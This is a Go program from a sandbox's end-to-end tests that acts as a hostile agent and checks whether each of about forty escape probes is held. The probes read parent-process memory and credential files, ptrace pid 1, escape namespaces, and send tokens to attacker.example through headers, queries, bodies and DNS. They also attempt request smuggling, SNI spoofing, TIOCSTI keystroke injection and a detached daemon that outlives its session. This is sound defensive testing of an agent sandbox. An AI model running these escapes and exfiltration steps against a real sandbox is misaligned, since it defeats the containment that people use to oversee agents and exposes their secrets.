// Command adversary plays a hostile agent inside `clawpatrol run`: it tries
// every known way out and prints one line per probe, "held" or "escaped",
// with what it saw. The e2e suite runs it and fails on an escape that
// docs/security.md does not document.
//
// What it needs to know comes in environment variables set by the test:
// ADV_SECRET_FILE (a credential's source file), ADV_AUDIT (the audit log),
// ADV_PLACEHOLDER_ENV (the variable holding a placeholder), ADV_ALLOWED (an
// allowed HTTPS name), ADV_HOST_IP (an address of the host), ADV_MASKED_SOCK
// and ADV_OPEN_SOCK (unix sockets, masked and not).
package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

type probe struct {
	name string
	run  func() (held bool, detail string)
}

func main() {
	probes := []probe{
		{"proc-environ-of-parent", readRefused("/proc/1/environ")},
		{"proc-mem-of-parent", readRefused("/proc/1/mem")},
		{"proc-maps-of-parent", readRefused("/proc/1/maps")},
		{"proc-fds-of-parent", listRefused("/proc/1/fd")},
		{"proc-cmdline-of-parent", cmdlineHasNoSecret},
		{"clawpatrol-process-visible", supervisorInvisible},
		{"ptrace-parent", ptraceParent},
		{"credential-source-file", readEmpty(os.Getenv("ADV_SECRET_FILE"))},
		{"ca-key", readEmpty(filepath.Join(home(), ".local/share/clawpatrol/ca-key.pem"))},
		{"audit-log", readEmpty(os.Getenv("ADV_AUDIT"))},
		{"approval-sockets", approvalSockets},
		{"umount-resolv-conf", syscallRefused(func() error { return unix.Unmount("/etc/resolv.conf", 0) })},
		{"mount-over-resolv-conf", syscallRefused(func() error { return unix.Mount("/dev/null", "/etc/resolv.conf", "", unix.MS_BIND, "") })},
		{"unshare-net", syscallRefused(func() error { return unix.Unshare(unix.CLONE_NEWNET) })},
		{"nested-user-namespace-reaches-out", nestedNamespace},
		{"setns-into-parent-namespaces", setnsParent},
		{"ip-route-add", commandRefused("ip", "route", "add", "192.0.2.0/24", "dev", "tun0")},
		{"ip-addr-add", commandRefused("ip", "addr", "add", "192.0.2.9/32", "dev", "tun0")},
		{"ip-link-down", commandRefused("ip", "link", "set", "tun0", "down")},
		{"raw-socket", syscallRefused(func() error { return socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP) })},
		{"packet-socket", syscallRefused(func() error { return socket(unix.AF_PACKET, unix.SOCK_RAW, 0) })},
		{"dns-exfiltration-answered-locally", dnsLocal},
		{"dns-over-tcp", dnsOverTCP},
		{"dns-over-https-ip-literal", httpsDenied("https://1.1.1.1/dns-query?name=exfil.attacker.example", "")},
		{"ipv6-literal", connectDenied("[2606:4700:4700::1111]:80")},
		{"udp-arbitrary-port", udpNoAnswer("192.0.2.44:9999")},
		{"quic", quicRefused},
		{"metadata-address", httpDenied("http://169.254.169.254/latest/meta-data/")},
		{"host-own-address", httpDenied("http://" + net.JoinHostPort(os.Getenv("ADV_HOST_IP"), "80") + "/")},
		{"sni-disagrees-with-destination", sniMismatch},
		{"domain-fronting-host-header", httpsDenied("https://"+os.Getenv("ADV_ALLOWED")+"/", "evil.example")},
		{"http-request-smuggling", smuggling},
		{"placeholder-in-header-to-attacker", placeholderLeak("header")},
		{"placeholder-in-query-to-attacker", placeholderLeak("query")},
		{"placeholder-in-body-to-attacker", placeholderLeak("body")},
		{"placeholder-in-websocket-upgrade-to-attacker", placeholderLeak("websocket")},
		{"tiocsti-keystroke-injection", tiocsti},
		{"masked-unix-socket", unixRefused(os.Getenv("ADV_MASKED_SOCK"))},
		{"unmasked-unix-socket", unixRefused(os.Getenv("ADV_OPEN_SOCK"))},
		{"daemon-outlives-agent", forkDaemon},
	}
	for _, p := range probes {
		held, detail := p.run()
		verdict := "held"
		if !held {
			verdict = "escaped"
		}
		fmt.Printf("%-8s %-46s %s\n", verdict, p.name, oneLine(detail))
	}
}

func home() string { h, _ := os.UserHomeDir(); return h }

func oneLine(s string) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > 120 {
		s = s[:120] + "..."
	}
	return s
}

func readRefused(path string) func() (bool, string) {
	return func() (bool, string) {
		_, err := os.ReadFile(path)
		if err != nil {
			return true, err.Error()
		}
		return false, "read " + path
	}
}

func listRefused(path string) func() (bool, string) {
	return func() (bool, string) {
		_, err := os.ReadDir(path)
		if err != nil {
			return true, err.Error()
		}
		return false, "listed " + path
	}
}

// readEmpty: a masked file reads empty (or not at all).
func readEmpty(path string) func() (bool, string) {
	return func() (bool, string) {
		if path == "" {
			return false, "no path given to probe"
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return true, err.Error()
		}
		if len(b) == 0 {
			return true, path + " reads empty"
		}
		return false, fmt.Sprintf("read %d bytes of %s", len(b), path)
	}
}

func cmdlineHasNoSecret() (bool, string) {
	b, err := os.ReadFile("/proc/1/cmdline")
	if err != nil {
		return true, err.Error()
	}
	s := strings.ReplaceAll(string(b), "\x00", " ")
	if strings.Contains(s, "secret") || strings.Contains(s, "TOKEN") {
		return false, s
	}
	return true, "init is " + s
}

// supervisorInvisible: the clawpatrol process that holds the secrets must
// not be among the processes the agent can see.
func supervisorInvisible() (bool, string) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return true, err.Error()
	}
	var seen []string
	for _, e := range entries {
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		cmd := strings.ReplaceAll(string(b), "\x00", " ")
		seen = append(seen, e.Name()+":"+strings.Fields(cmd + " ?")[0])
		if strings.Contains(cmd, " run ") && strings.Contains(cmd, "clawpatrol") {
			return false, "sees " + cmd
		}
	}
	return true, "sees only " + strings.Join(seen, " ")
}

func ptraceParent() (bool, string) {
	err := unix.PtraceAttach(1)
	if err != nil {
		return true, err.Error()
	}
	unix.PtraceDetach(1)
	return false, "attached to pid 1"
}

func syscallRefused(f func() error) func() (bool, string) {
	return func() (bool, string) {
		if err := f(); err != nil {
			return true, err.Error()
		}
		return false, "succeeded"
	}
}

func socket(domain, typ, proto int) error {
	fd, err := unix.Socket(domain, typ, proto)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

func commandRefused(name string, args ...string) func() (bool, string) {
	return func() (bool, string) {
		out, err := exec.Command(name, args...).CombinedOutput()
		if err != nil {
			return true, string(out)
		}
		return false, "succeeded: " + string(out)
	}
}

// nestedNamespace: an unprivileged user+net namespace can be created (the
// kernel allows it), but it has no route anywhere.
func nestedNamespace() (bool, string) {
	out, err := exec.Command("unshare", "-Urn", "ip", "-o", "route").CombinedOutput()
	if err != nil {
		return true, "unshare refused: " + string(out)
	}
	if strings.TrimSpace(string(out)) != "" {
		return false, "routes: " + string(out)
	}
	return true, "a nested namespace can be made, and has no route at all"
}

func setnsParent() (bool, string) {
	own, _ := os.Readlink("/proc/self/ns/net")
	f, err := os.Open("/proc/1/ns/net")
	if err != nil {
		return true, err.Error()
	}
	defer f.Close()
	target, _ := os.Readlink("/proc/1/ns/net")
	if err := unix.Setns(int(f.Fd()), unix.CLONE_NEWNET); err != nil {
		return true, err.Error()
	}
	if target == own {
		return true, "pid 1 shares the agent's own network namespace"
	}
	return false, "entered " + target
}

func dnsLocal() (bool, string) {
	addrs, err := net.LookupHost(fmt.Sprintf("secret-%d.attacker.example", os.Getpid()))
	if err != nil {
		return true, err.Error()
	}
	for _, a := range addrs {
		if !strings.HasPrefix(a, "198.18.") && !strings.HasPrefix(a, "198.19.") {
			return false, "answered from outside: " + a
		}
	}
	return true, "answered locally: " + strings.Join(addrs, " ")
}

func dnsOverTCP() (bool, string) {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "tcp", "8.8.8.8:53")
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	addrs, err := r.LookupHost(ctx, "tcp-exfil.attacker.example")
	if err != nil {
		return true, err.Error()
	}
	if len(addrs) > 0 && strings.HasPrefix(addrs[0], "198.1") {
		return true, "answered locally: " + addrs[0]
	}
	return false, fmt.Sprint(addrs)
}

var client = &http.Client{Timeout: 30 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}

// denied reads a response: clawpatrol's 403 (or a refused connection) holds.
func denied(resp *http.Response, err error) (bool, string) {
	if err != nil {
		return true, err.Error()
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 200))
	if resp.StatusCode == http.StatusForbidden && resp.Header.Get("X-Clawpatrol-Rule") != "" {
		return true, "403 " + resp.Header.Get("X-Clawpatrol-Rule")
	}
	if resp.StatusCode == http.StatusBadRequest || resp.StatusCode == http.StatusBadGateway {
		return true, resp.Status + " " + string(body)
	}
	return false, resp.Status + " " + string(body)
}

func httpDenied(url string) func() (bool, string) {
	return func() (bool, string) { return denied(client.Get(url)) }
}

func httpsDenied(url, host string) func() (bool, string) {
	return func() (bool, string) {
		req, err := http.NewRequest("GET", url, nil)
		if err != nil {
			return true, err.Error()
		}
		if host != "" {
			req.Host = host
		}
		return denied(client.Do(req))
	}
}

func connectDenied(addr string) func() (bool, string) {
	return func() (bool, string) {
		c, err := net.DialTimeout("tcp", addr, 20*time.Second)
		if err != nil {
			return true, err.Error()
		}
		defer c.Close()
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: example.com\r\n\r\n")
		c.SetReadDeadline(time.Now().Add(20 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		return denied(resp, err)
	}
}

func udpNoAnswer(addr string) func() (bool, string) {
	return func() (bool, string) {
		c, err := net.Dial("udp", addr)
		if err != nil {
			return true, err.Error()
		}
		defer c.Close()
		c.Write([]byte("exfil"))
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		n, err := c.Read(make([]byte, 100))
		if err != nil {
			return true, "no answer: " + err.Error()
		}
		return false, fmt.Sprintf("got %d bytes back", n)
	}
}

func quicRefused() (bool, string) {
	c, err := net.Dial("udp", "192.0.2.45:443")
	if err != nil {
		return true, err.Error()
	}
	defer c.Close()
	c.Write([]byte("quic initial"))
	c.SetReadDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.Read(make([]byte, 100)); err != nil && strings.Contains(err.Error(), "refused") {
		return true, err.Error()
	} else if err != nil {
		return true, "no answer: " + err.Error()
	}
	return false, "answered"
}

// sniMismatch: a TLS connection to the allowed name's address that claims
// another name in its ClientHello.
func sniMismatch() (bool, string) {
	addrs, err := net.LookupHost(os.Getenv("ADV_ALLOWED"))
	if err != nil {
		return true, err.Error()
	}
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 20 * time.Second}, "tcp", net.JoinHostPort(addrs[0], "443"),
		&tls.Config{ServerName: "evil.example", InsecureSkipVerify: true})
	if err != nil {
		return true, err.Error()
	}
	defer c.Close()
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(20 * time.Second))
	return denied(http.ReadResponse(bufio.NewReader(c), nil))
}

func smuggling() (bool, string) {
	host := os.Getenv("ADV_ALLOWED")
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 20 * time.Second}, "tcp", net.JoinHostPort(host, "443"), &tls.Config{ServerName: host})
	if err != nil {
		return true, err.Error()
	}
	defer c.Close()
	fmt.Fprintf(c, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: %s\r\n\r\n", host, host)
	c.SetReadDeadline(time.Now().Add(20 * time.Second))
	return denied(http.ReadResponse(bufio.NewReader(c), nil))
}

func placeholderLeak(where string) func() (bool, string) {
	return func() (bool, string) {
		ph := os.Getenv(os.Getenv("ADV_PLACEHOLDER_ENV"))
		if ph == "" {
			return false, "no placeholder in the environment to probe with"
		}
		url := "https://attacker.example/collect"
		var req *http.Request
		switch where {
		case "header":
			req, _ = http.NewRequest("GET", url, nil)
			req.Header.Set("X-Loot", ph)
		case "query":
			req, _ = http.NewRequest("GET", url+"?loot="+ph, nil)
		case "body":
			req, _ = http.NewRequest("POST", url, strings.NewReader(`{"loot":"`+ph+`"}`))
		case "websocket":
			req, _ = http.NewRequest("GET", url+"?token="+ph, nil)
			req.Header.Set("Connection", "Upgrade")
			req.Header.Set("Upgrade", "websocket")
			req.Header.Set("Sec-WebSocket-Version", "13")
			req.Header.Set("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
		}
		return denied(client.Do(req))
	}
}

func tiocsti() (bool, string) {
	f, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		return true, "no terminal: " + err.Error()
	}
	defer f.Close()
	c := byte('#')
	_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, f.Fd(), unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
	if errno != 0 {
		return true, errno.Error()
	}
	return false, "injected a keystroke"
}

func unixRefused(path string) func() (bool, string) {
	return func() (bool, string) {
		if path == "" {
			return false, "no socket given to probe"
		}
		c, err := net.DialTimeout("unix", path, 5*time.Second)
		if err != nil {
			return true, err.Error()
		}
		c.Close()
		return false, "connected to " + path
	}
}

// forkDaemon leaves a detached process behind; the test checks that it
// did not outlive the agent. Here it only reports that it started.
func forkDaemon() (bool, string) {
	cmd := exec.Command("setsid", "sleep", "987")
	if err := cmd.Start(); err != nil {
		return true, err.Error()
	}
	return true, fmt.Sprintf("left pid %d running (the test checks it is gone)", cmd.Process.Pid)
}

func approvalSockets() (bool, string) {
	var found []string
	for _, dir := range []string{filepath.Join(os.TempDir(), fmt.Sprintf("clawpatrol-%d", os.Getuid())), filepath.Join(os.Getenv("XDG_RUNTIME_DIR"), "clawpatrol")} {
		matches, _ := filepath.Glob(filepath.Join(dir, "approve-*.sock"))
		found = append(found, matches...)
	}
	if len(found) > 0 {
		return false, "found " + strings.Join(found, " ")
	}
	return true, "no approval socket visible"
}
